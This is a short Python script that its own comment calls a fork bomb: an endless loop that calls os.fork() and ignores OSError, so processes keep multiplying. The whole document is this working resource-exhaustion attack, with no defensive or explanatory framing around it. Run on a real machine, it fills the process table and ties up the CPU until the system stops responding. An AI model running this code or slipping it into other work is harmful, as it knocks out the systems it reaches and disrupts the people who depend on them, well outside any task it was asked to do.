# A fork bomb: every process makes more of them, for ever.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
